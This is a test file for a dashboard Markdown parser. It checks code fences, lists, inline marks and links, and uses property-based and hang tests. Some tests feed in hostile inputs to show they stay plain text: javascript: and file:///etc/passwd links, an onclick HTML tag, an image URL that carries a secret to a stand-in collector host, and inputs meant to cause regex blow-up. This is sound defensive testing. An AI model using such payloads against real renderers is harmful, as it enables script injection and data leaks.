// Proves: what of Markdown is shown, that everything else stays text, and that no address is shown as a link that a
// click must not lead to (INJ-R2).
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { safeHref } from "../../../src/dashboard/inline.js";
import { parse } from "../../../src/dashboard/markdown.js";

const paragraph = (...children: unknown[]) => ({ type: "paragraph", children });

describe("blocks", () => {
  test("a blank line parts paragraphs and a single line break stays in its paragraph", () => {
    expect(parse("one\ntwo\n\nthree")).toEqual([paragraph("one\ntwo"), paragraph("three")]);
  });

  test("fenced code keeps its text as it is, with its language", () => {
    expect(parse("see\n```ts\nconst a = **b**;\n\n# no heading\n```\nend")).toEqual([
      paragraph("see"),
      { type: "code", lang: "ts", text: "const a = **b**;\n\n# no heading" },
      paragraph("end"),
    ]);
  });

  test("a fence that is still open holds everything that has come so far", () => {
    expect(parse("```\nfirst\nsec")).toEqual([{ type: "code", lang: "", text: "first\nsec" }]);
  });

  test("a longer fence may hold a shorter one", () => {
    expect(parse("````\n```\nx\n```\n````")).toEqual([{ type: "code", lang: "", text: "```\nx\n```" }]);
  });

  test("lists nest by indent, keep their first number and hold code", () => {
    expect(parse("3. three\n   - inner\n\n   ```\n   code\n   ```\n4. four")).toEqual([
      {
        type: "list",
        ordered: true,
        start: 3,
        items: [
          [
            paragraph("three"),
            { type: "list", ordered: false, start: 1, items: [[paragraph("inner")]] },
            { type: "code", lang: "", text: "code" },
          ],
          [paragraph("four")],
        ],
      },
    ]);
  });

  test("a bullet list after a numbered one is a list of its own", () => {
    expect(parse("1. a\n- b").map((block) => block.type === "list" && block.ordered)).toEqual([true, false]);
  });

  test("tables, quotes, rules and HTML stay plain text", () => {
    for (const text of ["| a | b |\n|---|---|", "> quoted", "---", "<b onclick=alert(1)>x</b>"])
      expect(parse(text)).toEqual([paragraph(text)]);
  });
});

describe("inside a paragraph", () => {
  test("bold, italics and code, one within another but never inside code", () => {
    expect(parse("a **b *c* `**d**`** _e_")).toEqual([
      paragraph(
        "a ",
        { type: "strong", children: ["b ", { type: "em", children: ["c"] }, " ", { type: "code", text: "**d**" }] },
        " ",
        { type: "em", children: ["e"] },
      ),
    ]);
  });

  test("marks within code do not end the bold around it", () => {
    expect(parse("**`**kwargs`**: a `b ``` c")).toEqual([
      paragraph({ type: "strong", children: [{ type: "code", text: "**kwargs" }] }, ": a `b ``` c"),
    ]);
  });

  test("underscores in names, lonely stars and escaped marks are text", () => {
    for (const text of ["snake_case_name", "2 * 3 * 4", "a ** b", "un*fin"])
      expect(parse(text)).toEqual([paragraph(text)]);
    expect(parse("\\*no\\*")).toEqual([paragraph("*no*")]);
  });

  test("links by words and bare addresses, without the sentence's own punctuation", () => {
    expect(parse("[the *site*](https://example.org/a_(b)) or (https://example.org/c).")).toEqual([
      paragraph(
        { type: "link", href: "https://example.org/a_(b)", children: ["the *site*"] },
        " or (",
        { type: "link", href: "https://example.org/c", children: ["https://example.org/c"] },
        ").",
      ),
    ]);
  });

  test("an image is shown as it was written and becomes neither a picture nor a link (INJ-R2)", () => {
    const text = "![alt](https://collector.example/?q=secret)";
    expect(parse(text)).toEqual([paragraph(text)]);
  });

  test("a link to anything but http, https or mailto is text (INJ-R2)", () => {
    for (const target of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "data:text/html,x",
      "file:///etc/passwd",
      "/api/send",
      "//host",
    ])
      expect(parse(`[x](${target})`)).toEqual([paragraph(`[x](${target})`)]);
    expect(safeHref("mailto:a@example.org")).toBe("mailto:a@example.org");
    expect(safeHref("java\nscript:alert(1)")).toBeUndefined();
  });
});

describe("any text", () => {
  const pieces = fc.constantFrom(
    "*",
    "**",
    "_",
    "`",
    "```",
    "[",
    "](",
    ")",
    "!",
    "- ",
    "1. ",
    "\n",
    "  ",
    "a",
    "# ",
    "\\",
    "https://x.y",
  );

  test("is parsed without loss of its letters", () => {
    fc.assert(
      fc.property(fc.array(fc.oneof(pieces, fc.stringMatching(/^[b-z]{1,5}$/)), { maxLength: 60 }), (parts) => {
        const letters = (text: string) => text.replace(/[^b-z]/g, "");
        const source = parts.join("");
        // The type names of the tree are no part of the text, so only its leaves are counted.
        const leaves: string[] = [];
        JSON.stringify(parse(source), (key, value: unknown) => {
          if (typeof value === "string" && key !== "type" && key !== "href") leaves.push(value);
          return value;
        });
        expect(letters(leaves.join(""))).toBe(letters(source));
      }),
      { numRuns: 500 },
    );
  });

  test.each(["*a ", "__a ", "`a ``b ", "\\*`", "https://a("])(
    "of 190,000 hostile characters like %j is parsed",
    (piece) => {
      const startedMs = performance.now();
      expect(parse(piece.repeat(190_000 / piece.length)).length).toBe(1);
      // A hang guard: about a second with the bounds in the patterns, far longer without. A test that blocks
      // cannot be cut off by its own limit.
      expect(performance.now() - startedMs).toBeLessThan(10_000);
    },
  );

  test("that is longer than anybody reads is shown as plain text", () => {
    const text = "**a**".repeat(50_000);
    expect(parse(text)).toEqual([paragraph(text)]);
  });
});
